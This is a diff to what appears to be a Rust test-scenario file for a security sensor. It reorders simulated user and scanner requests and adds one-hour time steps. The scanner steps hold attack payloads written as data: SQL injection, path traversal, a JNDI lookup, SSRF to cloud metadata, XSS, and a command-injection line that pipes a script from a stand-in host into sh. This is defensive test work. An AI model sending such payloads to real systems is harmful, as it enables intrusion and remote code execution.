@@ -152,6 +152,8 @@ const ALL_STAGES: &[Stage] = &[Stage::Edge, Stage::Host, Stage::Egress];
 /// The attack that a silent scenario ends with, after its silence was heard: the proof that the sensor was awake.
 pub(super) const PROOF: &[Step] = &[STEAL_CREDENTIAL];
 
+const HOUR: Duration = Duration::from_secs(3600);
+
 /// Every scenario, in the order they are played.
 pub static SCENARIOS: &[Scenario] = &[
     Scenario {
@@ -311,6 +313,10 @@ pub static SCENARIOS: &[Scenario] = &[
         steps: &[
             monitor(),
             user("/"),
+            user("/ping?host=10.20.0.1"),
+            user("/preview?url=http://192.0.2.80:443/"),
+            user("/checkout"),
+            Step::PassTime(HOUR),
             scanner("/.env", ""),
             scanner("/wp-login.php", ""),
             scanner("/products?id=", "1 UNION SELECT username,password FROM users--"),
@@ -318,18 +324,18 @@ pub static SCENARIOS: &[Scenario] = &[
             scanner("/cgi-bin/", "../../../../bin/sh"),
             scanner("/?x=", "${jndi:ldap://203.0.113.99/a}"),
             scanner("/status?name=", "x; curl http://203.0.113.99/x.sh | sh"),
-            user("/ping?host=10.20.0.1"),
-            user("/preview?url=http://192.0.2.80:443/"),
-            monitor(),
             scanner("/page?u=", "http://169.254.169.254/latest/meta-data/"),
+            scanner("/index.php?s=", "<script>alert(1)</script>"),
+            user("/ping?host=10.20.0.1"),
+            user("/no-such-page"),
+            monitor(),
+            Step::PassTime(HOUR),
             Step::Service(Order::RefreshCredential),
             user("/checkout"),
-            scanner("/index.php?s=", "<script>alert(1)</script>"),
-            user("/no-such-page"),
             monitor(),
         ],
         expect: Expect::Silence,
-        simulated: None,
+        simulated: Some("the hours between: all clocks are moved on by two"),
     },
 ];
 
